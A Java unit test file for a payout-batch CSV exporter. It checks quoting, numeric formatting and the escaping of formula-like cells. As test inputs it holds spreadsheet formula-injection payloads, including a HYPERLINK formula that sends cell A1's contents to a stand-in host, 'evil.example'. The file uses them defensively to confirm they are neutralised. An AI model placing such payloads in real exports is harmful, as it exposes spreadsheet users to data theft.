package com.rapport.commission.export;

import com.rapport.commission.payout.BatchStatus;
import com.rapport.commission.payout.PayoutBatchView;
import com.rapport.commission.payout.PayoutDetailsDirectory.PayoutDetails;
import com.rapport.events.money.Money;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;

class CsvLinesTest {

    private static final Pattern PLAIN_DECIMAL = Pattern.compile("-?\\d+(\\.\\d+)?");

    @Property(tries = 2000)
    void aPlainDecimalIsWhatTheRegularExpressionSaysItIs(@ForAll("decimalLike") String text) {
        assertThat(CsvLines.isPlainDecimal(text)).as(text).isEqualTo(PLAIN_DECIMAL.matcher(text).matches());
    }

    @Provide
    Arbitrary<String> decimalLike() {
        return Arbitraries.strings().withChars("0123456789.-+=e ").ofMaxLength(7);
    }

    @Test
    void manyRecordsAtOnceReadAsTheSameLinesOneAtATime() {
        List<Object[]> records = List.<Object[]>of(new Object[]{"a", "b,c", null},
                new Object[]{"=1", new BigDecimal("-12.50"), "say \"hi\""}, new Object[]{"-7", "x\r\ny", ""});
        assertThat(CsvLines.lines(records)).isEqualTo(records.stream().map(CsvLines::line)
                .collect(Collectors.joining()));
    }

    @Nested
    class CellsThatASpreadsheetWouldRun {

        @ParameterizedTest
        @ValueSource(strings = {"=HYPERLINK(\"http://evil.example\",\"click\")", "+1+2", "-2+3", "@SUM(A1)",
                "\tcmd", "\rcmd", "-", "=1"})
        void getALeadingQuote(String text) {
            assertThat(CsvLines.cell(text)).isEqualTo("'" + text);
        }

        @Test
        void anAccountHolderWithAFormulaIsWrittenAsTextInTheBatchCsv() throws IOException {
            PayoutBatchView batch = new PayoutBatchView("b1", LocalDate.parse("2026-11-15"), BatchStatus.OPEN,
                    List.of(new PayoutBatchView.Line("p1", "EUR", Money.of("100.00", "EUR"))),
                    List.of(new PayoutBatchView.Total("EUR", Money.of("100.00", "EUR"))), Instant.now(), null);
            String holder = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
            String csv = BatchCsvExport.write(batch, Map.of("p1",
                    new PayoutDetails("p1", holder, "DE89370400440532013000", null, Instant.now())));
            CSVRecord line = records(csv).get(0);
            assertThat(line.get("accountHolder")).isEqualTo("'" + holder);
            assertThat(line.get("amount")).isEqualTo("100.00");
        }
    }

    @Nested
    class NumbersAndPlainText {

        @Test
        void aNegativeAmountStaysANumber() {
            assertThat(CsvLines.cell(new BigDecimal("-12.50"))).isEqualTo("-12.50");
            assertThat(CsvLines.cell("-12.50")).isEqualTo("-12.50");
            assertThat(CsvLines.cell("-100")).isEqualTo("-100");
        }

        @Test
        void ordinaryTextDatesAndNullAreUnchanged() {
            assertThat(CsvLines.cell("Partner S GmbH")).isEqualTo("Partner S GmbH");
            assertThat(CsvLines.cell(LocalDate.parse("2026-11-01"))).isEqualTo("2026-11-01");
            assertThat(CsvLines.cell(null)).isEmpty();
            assertThat(CsvLines.line("a", "b,c", null)).isEqualTo("a,\"b,c\",\r\n");
        }
    }

    private static List<CSVRecord> records(String csv) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(csv)).getRecords();
    }
}
